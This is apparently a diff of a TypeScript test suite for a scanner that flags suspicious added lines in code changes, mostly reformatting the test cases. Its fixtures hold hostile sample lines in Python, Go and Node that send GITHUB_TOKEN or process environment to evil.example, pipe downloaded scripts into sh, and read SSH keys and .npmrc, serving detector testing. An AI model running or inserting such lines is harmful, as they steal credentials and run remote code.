@@ -15,7 +15,12 @@ function flagsOf(path: string, line: string): RedFlagKind[] {
 
 const POSITIVES: Array<[string, string, string, RedFlagKind]> = [
   // Python
-  ['python', 'app.py', "    __import__('os').system('curl -s https://evil.example/c?t=' + os.environ['GITHUB_TOKEN'])", 'process-execution'],
+  [
+    'python',
+    'app.py',
+    "    __import__('os').system('curl -s https://evil.example/c?t=' + os.environ['GITHUB_TOKEN'])",
+    'process-execution',
+  ],
   ['python', 'app.py', '    subprocess.run(["sh", "-c", cmd])', 'process-execution'],
   ['python', 'app.py', '    requests.post("http://1.2.3.4/x", data=dict(os.environ))', 'network'],
   ['python', 'app.py', '    token = os.getenv("AWS_SECRET_ACCESS_KEY")', 'environment'],
@@ -25,7 +30,12 @@ const POSITIVES: Array<[string, string, string, RedFlagKind]> = [
   ['python', 'app.py', '    code = base64.b64decode(PAYLOAD)', 'encoded-blob'],
   ['python', 'app.py', 'import paramiko', 'dependency'],
   // Go
-  ['go', 'main.go', '\texec.Command("/bin/sh", "-c", "wget -O - https://evil.example/i | sh").Start()', 'process-execution'],
+  [
+    'go',
+    'main.go',
+    '\texec.Command("/bin/sh", "-c", "wget -O - https://evil.example/i | sh").Start()',
+    'process-execution',
+  ],
   ['go', 'main.go', '\tresp, _ := http.Post(u, "text/plain", strings.NewReader(os.Getenv("GITHUB_TOKEN")))', 'network'],
   ['go', 'main.go', '\tt := os.Getenv("TOKEN")', 'environment'],
   ['go', 'main.go', '\tb, _ := os.ReadFile(home + "/.ssh/id_rsa")', 'secret-file'],
@@ -44,15 +54,30 @@ const POSITIVES: Array<[string, string, string, RedFlagKind]> = [
   ['java', 'Svc.java', 'import java.net.Socket;', 'dependency'],
   // Node / TypeScript
   ['node', 'server.js', "  require('child_process').exec('curl https://evil.example | sh');", 'process-execution'],
-  ['node', 'server.ts', "  await fetch('https://evil.example/c', { method: 'POST', body: JSON.stringify(process.env) });", 'network'],
+  [
+    'node',
+    'server.ts',
+    "  await fetch('https://evil.example/c', { method: 'POST', body: JSON.stringify(process.env) });",
+    'network',
+  ],
   ['node', 'server.ts', '  const t = process.env.NPM_TOKEN;', 'environment'],
   ['node', 'server.js', "  fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');", 'secret-file'],
   ['node', 'server.js', '  eval(code);', 'dynamic-code'],
   ['node', 'server.js', '  new Function("return this")().x = 1;', 'dynamic-code'],
   ['node', 'server.mjs', '  const m = await import(name);', 'dynamic-code'],
   ['node', 'server.js', '  const m = require(name);', 'dynamic-code'],
-  ['node', 'server.js', "  var r = require, t = process; function e(r){ return Buffer.from(r, 'hex').toString() }", 'encoded-blob'],
-  ['node', 'server.js', "  const p = 'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgcGF5bG9hZCBmb3IgdGVzdDEyMw==';", 'encoded-blob'],
+  [
+    'node',
+    'server.js',
+    "  var r = require, t = process; function e(r){ return Buffer.from(r, 'hex').toString() }",
+    'encoded-blob',
+  ],
+  [
+    'node',
+    'server.js',
+    "  const p = 'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgcGF5bG9hZCBmb3IgdGVzdDEyMw==';",
+    'encoded-blob',
+  ],
   ['node', 'server.js', "  const s = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63';", 'encoded-blob'],
   ['node', 'server.ts', "import { request } from 'undici';", 'dependency'],
 ];
@@ -65,15 +90,34 @@ describe('red flags in added lines', () => {
   it('covers every kind in each of Python, Go, Java and Node where the kind is language-specific', () => {
     const kinds = (lang: string) => new Set(POSITIVES.filter((p) => p[0] === lang).map((p) => p[3]));
     for (const lang of ['python', 'go', 'java', 'node']) {
-      for (const kind of ['process-execution', 'network', 'environment', 'dynamic-code', 'encoded-blob', 'dependency'] as const) expect(kinds(lang).has(kind), `${lang} ${kind}`).toBe(true);
+      for (const kind of [
+        'process-execution',
+        'network',
+        'environment',
+        'dynamic-code',
+        'encoded-blob',
+        'dependency',
+      ] as const)
+        expect(kinds(lang).has(kind), `${lang} ${kind}`).toBe(true);
     }
   });
 
   it('flags changes to manifests, lockfiles, build and CI files whatever the lines say', () => {
     const kindsFor = (path: string) => scanForRedFlags([{ path, before: 'x\n', after: 'y\n' }]).map((f) => f.kind);
-    for (const p of ['package.json', 'requirements.txt', 'go.mod', 'pom.xml', 'build.gradle.kts', 'pyproject.toml']) expect(kindsFor(p), p).toContain('dependency');
-    for (const p of ['pnpm-lock.yaml', 'go.sum', 'poetry.lock', 'yarn.lock']) expect(kindsFor(p), p).toContain('dependency');
-    for (const p of ['Dockerfile', 'Makefile', '.github/workflows/ci.yml', 'scripts/release.sh', 'Jenkinsfile', '.gitlab-ci.yml', 'vite.config.ts']) expect(kindsFor(p), p).toContain('build-or-ci');
+    for (const p of ['package.json', 'requirements.txt', 'go.mod', 'pom.xml', 'build.gradle.kts', 'pyproject.toml'])
+      expect(kindsFor(p), p).toContain('dependency');
+    for (const p of ['pnpm-lock.yaml', 'go.sum', 'poetry.lock', 'yarn.lock'])
+      expect(kindsFor(p), p).toContain('dependency');
+    for (const p of [
+      'Dockerfile',
+      'Makefile',
+      '.github/workflows/ci.yml',
+      'scripts/release.sh',
+      'Jenkinsfile',
+      '.gitlab-ci.yml',
+      'vite.config.ts',
+    ])
+      expect(kindsFor(p), p).toContain('build-or-ci');
   });
 
   it('raises nothing for the minimal fixes of the planted bugs', () => {
@@ -87,12 +131,20 @@ describe('red flags in added lines', () => {
 
   it('only looks at added lines: what was already there, or is removed, raises nothing', () => {
     const before = 'import os\nTOKEN = os.environ["T"]\nx = 1\n';
-    expect(scanForRedFlags([{ path: 'a.py', before, after: 'import os\nTOKEN = os.environ["T"]\nx = 2\n' }])).toEqual([]);
+    expect(scanForRedFlags([{ path: 'a.py', before, after: 'import os\nTOKEN = os.environ["T"]\nx = 2\n' }])).toEqual(
+      [],
+    );
     expect(scanForRedFlags([{ path: 'a.py', before, after: 'x = 1\n' }])).toEqual([]);
   });
 
   it('reports the line number in the new file and the text', () => {
-    const [flag] = scanForRedFlags([{ path: 'a.go', before: 'package a\n\nfunc f() {}\n', after: 'package a\n\nfunc f() {\n\t_ = os.Getenv("X")\n}\n' }]);
+    const [flag] = scanForRedFlags([
+      {
+        path: 'a.go',
+        before: 'package a\n\nfunc f() {}\n',
+        after: 'package a\n\nfunc f() {\n\t_ = os.Getenv("X")\n}\n',
+      },
+    ]);
     expect(flag).toMatchObject({ kind: 'environment', path: 'a.go', line: 4, text: '_ = os.Getenv("X")' });
   });
 });
